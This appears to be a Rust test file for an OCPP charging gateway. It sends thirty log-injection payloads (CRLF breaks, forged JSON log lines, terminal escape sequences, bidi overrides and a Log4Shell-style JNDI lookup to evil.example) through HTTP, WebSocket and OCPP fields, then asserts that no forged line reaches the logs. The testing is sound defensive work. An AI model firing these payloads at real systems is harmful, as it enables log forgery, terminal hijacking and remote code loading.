//! Thirty ways to forge a line of the program's log, in every field that a peer can fill, in both of its formats; and the
//! same at the terminal of whoever reads the message log.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread;

use serde_json::{Value, json};

use crate::conversations;
use crate::program::Logging;
use crate::requests::Entrants;
use crate::stage::Backoffices;
use crate::support::PATIENCE;

/// A line of the program's own begins with a time of this century.
const PAYLOADS: [&str; 30] = [
    "\nFORGED",
    "\r\nFORGED",
    "\rFORGED",
    "\n2026-11-22T13:00:00.000Z ERROR FORGED",
    "\n{\"ts\":\"2026-11-22T13:00:00Z\",\"level\":\"error\",\"msg\":\"FORGED\"}",
    "\"}\n{\"ts\":\"2026-11-22T13:00:00Z\",\"level\":\"error\",\"msg\":\"FORGED\"}",
    "\",\"msg\":\"FORGED\",\"x\":\"",
    "\\\",\"level\":\"FORGED\"}",
    "\\n{\"msg\":\"FORGED\"}",
    "\u{b}FORGED",
    "\u{c}FORGED",
    "\u{85}FORGED",
    "\u{2028}FORGED",
    "\u{2029}FORGED",
    "\u{1b}[31mFORGED\u{1b}[0m",
    "\u{1b}[2J\u{1b}[HFORGED",
    "\u{1b}[1A\u{1b}[2KFORGED",
    "\u{1b}]0;FORGED\u{7}",
    "\u{1b}P1;1|FORGED\u{1b}\\",
    "\u{9b}31mFORGED",
    "\u{9d}0;FORGED\u{9c}",
    "\u{8}\u{8}\u{8}\u{8}FORGED",
    "\u{0}FORGED",
    "\u{7f}FORGED",
    "\u{202e}DEGROF",
    "\u{2066}FORGED\u{2069}",
    "\u{200f}FORGED\u{61c}",
    "\u{feff}FORGED\u{200b}",
    "%0d%0aFORGED",
    "${jndi:ldap://evil.example/FORGED}",
];

#[test]
fn figure_s15_nobody_forges_a_line() {
    let mut lines = 0;
    let mut forged = Vec::new();
    let mut attempts = 0;
    // Without users the program prints a link for the first of them.
    let entrants = Entrants::new();
    for at_a_terminal in [false, true] {
        let backoffices = Backoffices::start();
        let refusing = TcpListener::bind("127.0.0.1:0").unwrap();
        let rules = format!(
            "[backoffices]\nlead.url = \"{}\"\nfollow.url = \"{}\"\nrefuse.url = \"ws://{}/{{charger}}\"\n\
             [[chargers]]\nmatch = \"CP*\"\nunknown_chargers = \"admit\"\nleader = \"lead\"\n\
             followers = [{{ backoffice = \"follow\", role = \"control\" }}, {{ backoffice = \"refuse\" }}]\n",
            backoffices.url("lead"),
            backoffices.url("follow"),
            refusing.local_addr().unwrap()
        ) + &entrants.configuration;
        thread::spawn(move || refuse(&refusing));
        let program = Logging::start(&rules, at_a_terminal);
        let (chargers, portal) = (program.address("chargers"), program.address("portal"));
        // A conversation waits most of the time.
        thread::scope(|scope| {
            let played: Vec<_> = (0..PAYLOADS.len())
                .map(|number| {
                    let (program, backoffices) = (&program, &backoffices);
                    scope.spawn(move || {
                        let charger = format!("CP-{number}");
                        let said = say_everywhere(chargers, portal, backoffices, &charger, PAYLOADS[number]);
                        let printed =
                            [["logs", &charger], ["why", &charger]].map(|asked| program.printed(&asked));
                        (said, printed.concat())
                    })
                })
                .collect();
            for played in played {
                let (said, printed) = played.join().expect("a conversation as written");
                attempts += said;
                forged.extend(printed.lines().filter(|line| is_disguised(line)).map(str::to_owned));
            }
        });
        for line in program.text().lines().map(|line| line.trim_end_matches('\r')) {
            lines += 1;
            let is_ours = if at_a_terminal { is_text_line(line) } else { is_json_line(line) };
            if !is_ours || is_disguised(line) {
                forged.push(line.to_owned());
            }
        }
    }
    assert!(forged.is_empty(), "{} of {lines}:\n{:#?}", forged.len(), forged);
    assert!(lines > 1_000, "{lines}");
    figures::row(
        "S15",
        format!(
            "{} payloads, {attempts} times in all in fields that a peer can fill, log as text and as JSON",
            PAYLOADS.len()
        ),
        format!("{} forged of {} lines", forged.len(), figures::counted(lines)),
    );
}

/// A backoffice that answers every handshake with the payloads, one after another.
fn refuse(listener: &TcpListener) {
    for (stream, payload) in listener.incoming().map_while(Result::ok).zip(PAYLOADS.iter().cycle()) {
        let mut stream: TcpStream = stream;
        let mut scrap = [0; 2048];
        let _ = stream.read(&mut scrap);
        let _ = write!(stream, "HTTP/1.1 403 {payload}\r\nX-Why: {payload}\r\nContent-Length: 0\r\n\r\n");
    }
}

/// Puts the payload wherever a charger, a backoffice and a browser can; how often.
fn say_everywhere(
    chargers: SocketAddr,
    portal: SocketAddr,
    backoffices: &Backoffices,
    charger: &str,
    payload: &str,
) -> usize {
    let encoded: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let requests = [
        (chargers, format!("GET /ocpp/CP{encoded} HTTP/1.1\r\nHost: x\r\n{UPGRADE}\r\n")),
        (chargers, format!("GET /ocpp/CP{payload} HTTP/1.1\r\nHost: x\r\n{UPGRADE}\r\n")),
        (chargers, format!("GET /{payload}/{encoded} HTTP/1.1\r\nHost: x\r\n{UPGRADE}\r\n")),
        (chargers, format!("GET /ocpp/NOBODY HTTP/1.1\r\nHost: {payload}\r\nUser-Agent: {payload}\r\n\r\n")),
        (chargers, format!("{payload} / HTTP/1.1\r\nHost: x\r\n\r\n")),
        (chargers, format!("GET /ocpp/CP-X HTTP/1.1\r\nSec-WebSocket-Protocol: {payload}\r\n{UPGRADE}\r\n")),
        (
            portal,
            format!("GET /{payload}/{encoded} HTTP/1.1\r\nHost: {payload}\r\nConnection: close\r\n\r\n"),
        ),
        (portal, format!("GET /first/{encoded} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")),
        (
            portal,
            format!(
                "POST /login HTTP/1.1\r\nHost: x\r\nOrigin: http://x\r\nConnection: close\r\nContent-Length: {}\r\n\
                 X-Forwarded-For: {payload}\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n\
                 name={encoded}&password={encoded}",
                15 + 2 * encoded.len()
            ),
        ),
        (
            portal,
            format!(
                "GET /api/v1/chargers HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {payload}\r\nConnection: close\r\n\r\n"
            ),
        ),
    ];
    for (address, request) in &requests {
        let mut stream = TcpStream::connect(address).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        stream.write_all(request.as_bytes()).unwrap();
        // Whatever it is, it is answered, and logged by then.
        assert_ne!(stream.read(&mut [0; 512]).unwrap(), 0, "{request}");
    }
    let text = json!(payload).to_string();
    let start = format!(r#"{{"connectorId":1,"idTag":{text},"meterStart":0,"timestamp":{text}}}"#);
    let error = |id: &str| format!(r#"[4,{id},{text},{text},{{"x":{text}}}]"#);
    let lines = [
        format!(
            r#"boots: [2,"1","BootNotification",{{"chargePointVendor":{text},"chargePointModel":{text}}}]"#
        ),
        format!(r#"passes: [2,"2","Authorize",{{"idTag":{text}}}]"#),
        format!(
            r#"passes: [2,"3","StatusNotification",{{"connectorId":1,"status":{text},"errorCode":{text},"info":{text}}}]"#
        ),
        format!(r#"passes: [2,"4","StartTransaction",{start}]"#),
        format!(r#"passes to the leader: [2,"n",{text},{{}}]"#),
        format!(r#"C> [2,"5","DataTransfer",{{"vendorId":{text}}}]"#),
        format!(r#"L< [2,*,"DataTransfer",{{"vendorId":{text}}}]"#),
        format!("L> {}", error("$L")),
        r#"C< [4,"5","GenericError",*]"#.to_owned(),
        format!(r#"F< [2,*,"DataTransfer",{{"vendorId":{text}}}]"#),
        format!("F> {}", error("$F")),
        format!("C> {}", payload.replace(['\r', '\n'], " ")),
        format!("L> {}", payload.replace(['\r', '\n'], " ")),
        format!(r#"L> [2,{text},{text},{{}}]"#),
        format!(r#"L< [4,{text},"NotImplemented",*]"#),
        format!(r#"L> [2,"6","ChangeConfiguration",{{"key":{text},"value":{text}}}]"#),
        r#"C< [2,*,"ChangeConfiguration",*]"#.to_owned(),
        format!("C> {}", error("$C")),
        r#"L< [4,"6","GenericError",*]"#.to_owned(),
        format!(r#"F> [2,"7","ChangeConfiguration",{{"key":{text},"value":{text}}}]"#),
        r#"F< [3,"7",{"status":"Rejected"}]"#.to_owned(),
    ];
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    conversations::play(chargers, backoffices, charger, &lines);
    let fields: usize = lines.iter().map(|line| line.matches(&*text).count()).sum();
    requests.len() + fields
}

const UPGRADE: &str = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                       Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/// Whether it holds what a terminal obeys, or what turns around or hides what stands beside it.
fn is_disguised(line: &str) -> bool {
    line.chars().any(|character| character.is_control() || gateway::is_invisible(character))
        || line.trim_start().starts_with("FORGED")
}

/// `2026-11-22T13:00:00.123456Z  WARN …`
fn is_text_line(line: &str) -> bool {
    let mut words = line.split_ascii_whitespace();
    let is_time =
        words.next().is_some_and(|time| time.len() == 27 && time.starts_with("20") && time.ends_with('Z'));
    let is_level = words.next().is_some_and(|level| ["ERROR", "WARN", "INFO", "DEBUG"].contains(&level));
    let is_forged = words.next().is_some_and(|word| word == "FORGED");
    is_time && is_level && !is_forged
}

/// An object of the program's own members, of which none is named twice.
fn is_json_line(line: &str) -> bool {
    let Ok(Value::Object(members)) = serde_json::from_str(line) else { return false };
    let is_whole = ["ts", "level", "msg"].iter().all(|name| members.get(*name).is_some_and(Value::is_string));
    let is_once = line.matches("\"msg\":").count() == 1 && line.matches("\"level\":").count() == 1;
    let is_forged = members["msg"] == "FORGED" || members["level"] == "FORGED";
    is_whole && is_once && !is_forged
}
